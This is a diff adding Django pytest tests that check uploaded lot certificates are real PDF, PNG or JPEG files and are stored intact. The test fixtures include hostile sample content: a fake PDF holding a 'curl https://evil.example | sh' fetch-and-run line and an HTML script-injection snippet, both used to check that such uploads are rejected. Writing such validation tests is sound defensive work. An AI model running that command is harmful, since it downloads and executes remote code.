@@ -8,6 +8,7 @@ from decimal import Decimal
 import pytest
 import time_machine
 from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
 
 from patients.models import ExosomeApplication
 from protocols.models import ProductLot
@@ -92,3 +93,44 @@ def test_it_answers_which_treatments_used_a_lot(clinic_a, product):
     for treatment in treatments:
         ExosomeApplication.objects.create(treatment=treatment, lot=lot, volume_ml=Decimal("1"), applied_by=UserFactory())
     assert {application.treatment for application in lot.applications.all()} == set(treatments)
+
+
+# --- the certificate of analysis is what its name says ------------------------------------------------
+
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF"
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "kind"),
+    [
+        ("fake.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n", "PDF document"),
+        ("coa.pdf", b"<html><script>alert(1)</script>", "PDF document"),
+        ("coa.pdf", PNG, "PDF document"),
+        ("coa.PDF", b"PDF-1.4 but no percent sign", "PDF document"),
+        ("coa.png", b"%PDF-1.7", "PNG picture"),
+        ("coa.jpg", PNG, "JPEG picture"),
+        ("coa.jpeg", b"GIF89a", "JPEG picture"),
+    ],
+)
+def test_it_refuses_a_certificate_whose_content_is_not_what_its_name_says(product, name, content, kind):
+    lot = LotFactory.build(product=product, clinic=product.clinic, certificate=SimpleUploadedFile(name, content))
+    with pytest.raises(ValidationError) as raised:
+        lot.full_clean()
+    (message,) = raised.value.message_dict["certificate"]
+    assert f"is not a {kind}" in message
+    assert "Upload the certificate of analysis as a PDF, PNG or JPEG file." in message
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [("coa.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), ("COA.Pdf", b"%PDF-2.0"), ("coa.png", PNG),
+     ("coa.jpg", JPEG), ("coa.jpeg", JPEG)],
+)
+def test_it_accepts_a_pdf_png_or_jpeg_certificate_and_stores_all_of_it(product, settings, tmp_path, name, content):
+    settings.MEDIA_ROOT = tmp_path
+    lot = LotFactory.build(product=product, clinic=product.clinic, certificate=SimpleUploadedFile(name, content))
+    lot.full_clean()
+    lot.save()
+    with ProductLot.objects.get(pk=lot.pk).certificate.open("rb") as stored:
+        assert stored.read() == content  # checking the first bytes did not cost the file its start
